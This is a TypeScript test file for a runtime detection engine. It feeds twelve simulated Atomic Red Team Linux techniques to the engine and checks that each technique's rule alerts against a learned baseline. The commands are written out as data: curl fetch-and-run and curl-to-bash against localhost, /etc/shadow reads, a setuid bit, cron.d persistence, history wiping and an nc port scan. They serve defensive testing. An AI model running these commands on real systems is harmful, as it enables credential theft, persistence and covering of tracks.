// The field report's twelve published Linux attack tests (Atomic Red Team style: each
// test's commands run by `sh -c` from an attacker's shell), against every registered rule
// and a stable baseline that already knows every binary the attacks use (cat, chmod,
// curl, sh, base64, uname, cp…): the alert that speaks must be the technique's own rule,
// never "a new binary". The events are what the bpftrace source reports for those
// commands (test/e2e/bpftrace-detect.test.ts runs the same commands on the live kernel).
import assert from 'node:assert/strict';
import type { Ancestor, EventOf, FileOp, RuntimeEvent } from '../../collector/event.ts';
import type { Engine } from '../../models/engine.ts';
import { envelope, fire, learnThenStable, testEngine } from '../support/events.ts';

const SHIM: Ancestor = { exe: '/usr/bin/containerd-shim-runc-v2', pid: 1 };
const WORKER: Ancestor = { exe: '/usr/bin/bash', args: ['bash', '/app/worker.sh'], pid: 10 };

/** a process of the test: pid, argv and its ancestors (nearest first) */
interface P {
  pid: number;
  exe: string;
  args: string[];
  up: Ancestor[];
}
const proc = (pid: number, exe: string, args: string[], parent: P | Ancestor[]): P => ({
  pid,
  exe,
  args,
  up: Array.isArray(parent) ? parent : [{ exe: parent.exe, args: parent.args, pid: parent.pid }, ...parent.up],
});

let clock = 0;
const who = (p: P) => ({ exe: p.exe, args: p.args, pid: p.pid, ppid: p.up[0]?.pid, ancestors: p.up, time: (clock += 5) });
const execOf = (p: P): EventOf<'exec'> => ({ ...envelope(who(p)), kind: 'exec' });
const writeBy = (p: P, path: string, op: FileOp, extra: { flags?: string[]; mode?: number } = {}): EventOf<'file_write'> => ({
  ...envelope(who(p)),
  kind: 'file_write',
  path,
  op,
  ...extra,
});
const readBy = (p: P, path: string): EventOf<'file_open'> => ({ ...envelope(who(p)), kind: 'file_open', path, flags: ['O_RDONLY'] });
const connectBy = (p: P, addr: string, port: number): EventOf<'connect'> => ({ ...envelope(who(p)), kind: 'connect', proto: 'tcp', dstAddr: addr, dstPort: port });
const CREATE = { flags: ['O_WRONLY', 'O_CREAT', 'O_TRUNC'] };

/** what a workload that runs these tools every day learned: a bash worker and its children */
function habits(): RuntimeEvent[] {
  const w: P = { pid: 10, exe: WORKER.exe, args: WORKER.args!, up: [SHIM] };
  let pid = 100;
  const kid = (exe: string, args: string[]) => proc(pid++, exe, args, w);
  const evs: RuntimeEvent[] = [execOf(w)];
  for (let round = 0; round < 2; round++) {
    const cat = kid('/usr/bin/cat', ['cat', '/app/data/input.txt']);
    const chmod = kid('/usr/bin/chmod', ['chmod', '+x', '/app/data/run.sh']);
    const cp = kid('/usr/bin/cp', ['cp', '/app/data/input.txt', '/tmp/work.txt']);
    const curl = kid('/usr/bin/curl', ['curl', '-s', '-o', '/tmp/fetch.json', 'http://127.0.0.1:8080/data']);
    const sh = kid('/usr/bin/dash', ['sh', '-c', 'date +%s']);
    const b64 = kid('/usr/bin/base64', ['base64', '/app/data/input.txt']);
    const b64d = kid('/usr/bin/base64', ['base64', '-d', '/app/data/blob.b64']);
    const run = kid('/app/data/run.sh', ['/app/data/run.sh']);
    evs.push(
      execOf(cat),
      execOf(chmod),
      writeBy(chmod, '/app/data/run.sh', 'chmod', { mode: 0o755 }),
      execOf(cp),
      writeBy(cp, '/tmp/work.txt', 'create', CREATE),
      execOf(curl),
      connectBy(curl, '127.0.0.1', 8080),
      writeBy(curl, '/tmp/fetch.json', 'create', CREATE),
      execOf(sh),
      execOf(b64),
      execOf(b64d),
      execOf(run),
      ...['uname', 'id', 'groups', 'mkdir', 'rm', 'grep', 'sleep', 'touch', 'echo', 'ln', 'ping', 'uptime', 'nc'].map((n) => execOf(kid(`/usr/bin/${n}`, [n]))),
      execOf(kid('/usr/bin/bash', ['bash', '-c', 'exit 0'])),
      writeBy(w, '/app/data/out.log', 'write', { flags: ['O_WRONLY', 'O_APPEND'] }),
    );
  }
  return evs;
}

describe('twelve attack techniques: the technique rule speaks, whatever binaries the baseline knows', () => {
  let e: Engine;
  let t: number;
  let pid = 1000;
  // the attacker's interactive shell (a reverse shell started from the worker)
  const attacker: P = { pid: 900, exe: '/usr/bin/bash', args: ['bash', '-i'], up: [{ exe: WORKER.exe, args: WORKER.args, pid: 10 }, SHIM] };
  /** one test's command line, run as `sh -c CMD` by the attacker's shell */
  const test = (cmd: string): P => proc(pid++, '/usr/bin/dash', ['sh', '-c', cmd], attacker);
  const child = (parent: P, exe: string, args: string[]): P => proc(pid++, exe, args, parent);

  /** every rule an event sequence raised: [speaking rules, rules named in "also matched"] */
  function run(evs: RuntimeEvent[]): { rules: string[]; also: string[]; summaries: string[] } {
    const rules: string[] = [];
    const also: string[] = [];
    const summaries: string[] = [];
    for (const ev of evs) {
      for (const u of fire(e, { ...ev, time: t + ev.time }, t + ev.time)) {
        rules.push(u.alert.rule);
        summaries.push(`${u.alert.rule}: ${u.alert.summary}`);
        const m = /Also matched: ([^.]+)\./.exec(u.alert.description ?? '');
        if (m) also.push(...m[1].split(', '));
      }
    }
    return { rules, also, summaries };
  }

  before(() => {
    e = testEngine();
    clock = 0;
    t = learnThenStable(e, habits());
    clock = 0;
  });

  it('baseline: the workload knows the binaries and its own habits raise nothing', () => {
    const w: P = { pid: 10, exe: WORKER.exe, args: WORKER.args!, up: [SHIM] };
    const cat = proc(5000, '/usr/bin/cat', ['cat', '/app/data/input.txt'], w);
    const chmod = proc(5001, '/usr/bin/chmod', ['chmod', '+x', '/app/data/run.sh'], w);
    assert.deepEqual(run([execOf(cat), execOf(chmod), writeBy(chmod, '/app/data/run.sh', 'chmod', { mode: 0o755 })]).summaries, []);
    // the attacker's own shell is a novelty of its own; the tests below judge what runs in it
    run([execOf(attacker)]);
  });

  const cases: [string, string, () => RuntimeEvent[]][] = [
    [
      'T1059.004 shell script execution (sh /tmp/art.sh)',
      'drift-exec',
      () => {
        const w1 = test("echo 'echo Hello from the Atomic Red Team' > /tmp/art.sh");
        const chmod = child(test('chmod +x /tmp/art.sh'), '/usr/bin/chmod', ['chmod', '+x', '/tmp/art.sh']);
        const runner = test('sh /tmp/art.sh');
        const sh = child(runner, '/usr/bin/dash', ['sh', '/tmp/art.sh']);
        return [execOf(w1), writeBy(w1, '/tmp/art.sh', 'create', CREATE), execOf(chmod), writeBy(chmod, '/tmp/art.sh', 'chmod', { mode: 0o755 }), execOf(runner), execOf(sh), execOf(child(sh, '/usr/bin/echo', ['echo', 'Hello']))];
      },
    ],
    [
      'T1105 download and run',
      'drift-exec',
      () => {
        const r = test('curl -s -o /tmp/payload http://127.0.0.1:8000/payload && chmod +x /tmp/payload && /tmp/payload');
        const curl = child(r, '/usr/bin/curl', ['curl', '-s', '-o', '/tmp/payload', 'http://127.0.0.1:8000/payload']);
        const chmod = child(r, '/usr/bin/chmod', ['chmod', '+x', '/tmp/payload']);
        const pay = child(r, '/tmp/payload', ['/tmp/payload']);
        return [execOf(r), execOf(curl), connectBy(curl, '127.0.0.1', 8000), writeBy(curl, '/tmp/payload', 'create', CREATE), execOf(chmod), writeBy(chmod, '/tmp/payload', 'chmod', { mode: 0o755 }), execOf(pay)];
      },
    ],
    [
      'T1087.001 account discovery',
      'discovery-commands',
      () => {
        const a = test('cat /etc/passwd > /tmp/T1087.001.txt; cat /tmp/T1087.001.txt');
        const b = test("grep 'x:0:' /etc/passwd > /tmp/T1087.001.txt");
        const c = test('groups; id');
        const evs: RuntimeEvent[] = [execOf(a), execOf(child(a, '/usr/bin/cat', ['cat', '/etc/passwd'])), execOf(child(a, '/usr/bin/cat', ['cat', '/tmp/T1087.001.txt']))];
        evs.push(execOf(b), execOf(child(b, '/usr/bin/grep', ['grep', 'x:0:', '/etc/passwd'])));
        evs.push(execOf(c), execOf(child(c, '/usr/bin/groups', ['groups'])), execOf(child(c, '/usr/bin/id', ['id'])));
        return evs;
      },
    ],
    [
      'T1082 OS discovery',
      'discovery-commands',
      () => {
        const r = test('uname -a >> /tmp/T1082.txt; cat /etc/issue >> /tmp/T1082.txt; uptime >> /tmp/T1082.txt; cat /tmp/T1082.txt');
        return [
          execOf(r),
          execOf(child(r, '/usr/bin/uname', ['uname', '-a'])),
          execOf(child(r, '/usr/bin/cat', ['cat', '/etc/issue'])),
          execOf(child(r, '/usr/bin/uptime', ['uptime'])),
          execOf(child(r, '/usr/bin/cat', ['cat', '/tmp/T1082.txt'])),
        ];
      },
    ],
    [
      'T1003.008 /etc/shadow read',
      'credential-file-read',
      () => {
        const r = test('cat /etc/shadow > /tmp/T1003.008.txt');
        const cat = child(r, '/usr/bin/cat', ['cat', '/etc/shadow']);
        return [execOf(r), execOf(cat), readBy(cat, '/etc/shadow')];
      },
    ],
    [
      'T1548.001 setuid bit',
      'setuid-bit-set',
      () => {
        const r = test('touch /tmp/evilBinary; chmod u+xs /tmp/evilBinary');
        const touch = child(r, '/usr/bin/touch', ['touch', '/tmp/evilBinary']);
        const chmod = child(r, '/usr/bin/chmod', ['chmod', 'u+xs', '/tmp/evilBinary']);
        return [execOf(r), execOf(touch), writeBy(touch, '/tmp/evilBinary', 'create', { flags: ['O_WRONLY', 'O_CREAT'] }), execOf(chmod), writeBy(chmod, '/tmp/evilBinary', 'chmod', { mode: 0o4755 })];
      },
    ],
    [
      'T1053.003 cron.d',
      'write-system-path',
      () => {
        const r = test("echo '* * * * * root /tmp/evil' > /etc/cron.d/persistevil");
        return [execOf(r), writeBy(r, '/etc/cron.d/persistevil', 'create', CREATE)];
      },
    ],
    [
      'T1070.003 history clearing',
      'history-tampering',
      () => {
        const a = test('cat /dev/null > ~/.bash_history');
        const b = test('rm ~/.bash_history');
        const rm = child(b, '/usr/bin/rm', ['rm', '/root/.bash_history']);
        return [execOf(a), writeBy(a, '/root/.bash_history', 'create', CREATE), execOf(child(a, '/usr/bin/cat', ['cat', '/dev/null'])), execOf(b), execOf(rm), writeBy(rm, '/root/.bash_history', 'unlink')];
      },
    ],
    [
      'T1140 base64-decoded script (decoded into a file and run)',
      'drift-exec',
      () => {
        const r = test('echo ZWNobyBIZWxsbwo= > /tmp/encoded.dat; cat /tmp/encoded.dat | base64 -d > /tmp/art.sh; chmod +x /tmp/art.sh; /tmp/art.sh');
        const cat = child(r, '/usr/bin/cat', ['cat', '/tmp/encoded.dat']);
        const b64 = child(r, '/usr/bin/base64', ['base64', '-d']);
        const chmod = child(r, '/usr/bin/chmod', ['chmod', '+x', '/tmp/art.sh']);
        // a script run directly: the sources name the process by its script
        const art = child(r, '/tmp/art.sh', ['/bin/sh', '/tmp/art.sh']);
        return [
          execOf(r),
          writeBy(r, '/tmp/encoded.dat', 'create', CREATE),
          writeBy(r, '/tmp/art.sh', 'create', CREATE),
          execOf(cat),
          execOf(b64),
          execOf(chmod),
          writeBy(chmod, '/tmp/art.sh', 'chmod', { mode: 0o755 }),
          execOf(art),
        ];
      },
    ],
    [
      'T1036.005 masquerading directory ($HOME/.../sh)',
      'masquerading',
      () => {
        const r = test('mkdir $HOME/...; cp $(which sh) $HOME/...; $HOME/.../sh -c "echo $HOME/.../sh"');
        const cp = child(r, '/usr/bin/cp', ['cp', '/usr/bin/sh', '/root/.../']);
        const sh = child(r, '/root/.../sh', ['/root/.../sh', '-c', 'echo /root/.../sh']);
        return [execOf(r), execOf(child(r, '/usr/bin/mkdir', ['mkdir', '/root/...'])), execOf(cp), writeBy(cp, '/root/.../sh', 'create', CREATE), execOf(sh)];
      },
    ],
    [
      'T1059.004 pipe to shell (curl | bash)',
      'download-pipe-to-shell',
      () => {
        const r = test('curl -s http://127.0.0.1:8000/echo-art-fish.sh | bash');
        const curl = child(r, '/usr/bin/curl', ['curl', '-s', 'http://127.0.0.1:8000/echo-art-fish.sh']);
        const bash = child(r, '/usr/bin/bash', ['bash']);
        return [execOf(r), execOf(curl), execOf(bash), connectBy(curl, '127.0.0.1', 8000)];
      },
    ],
    [
      // stable: the scan's destinations are new, and unexpected-connect's fan-out is the
      // one finding (port-scan speaks while the baseline learns: test/models/rules/port-scan.test.ts)
      'T1046 port scan (nc -z over 1-100)',
      'unexpected-connect',
      () => {
        const r = test('nc -nvz -w1 127.0.0.1 1-100');
        const nc = child(r, '/usr/bin/nc', ['nc', '-nvz', '-w1', '127.0.0.1', '1-100']);
        const evs: RuntimeEvent[] = [execOf(r), execOf(nc)];
        for (let port = 1; port <= 100; port++) evs.push(connectBy(nc, '127.0.0.1', port));
        return evs;
      },
    ],
  ];

  for (const [name, rule, events] of cases) {
    it(`${name}: ${rule}`, () => {
      const r = run(events());
      // the technique's rule speaks, or is named ("also matched") by another technique
      // rule that outranks it (drift-exec, critical, for a copied-in masquerading binary)
      const spoke = r.rules.includes(rule) || (r.also.includes(rule) && r.rules.some((x) => !x.startsWith('unexpected-')));
      assert.ok(spoke, `${rule} expected; got:\n${r.summaries.join('\n')}`);
      if (rule === 'unexpected-connect') {
        const alerts = new Set(r.summaries.filter((x) => x.startsWith('unexpected-connect')).map((x) => x.replace(/\d+ destinations.*/, '')));
        assert.equal(alerts.size, 2, 'one alert, then one fan-out finding growing (its summary names the count)');
        assert.match(r.summaries.at(-1)!, /connected to 100 destinations this workload never used: 127\.0\.0\.1 port\(s\) 1-100$/);
      }
      // no binary of the test is new to the workload: novelty about one never speaks
      assert.ok(!r.summaries.some((x) => /^unexpected-exec: \/usr\/bin\/\S+ executed, never seen/.test(x)), r.summaries.join('\n'));
    });
  }
});
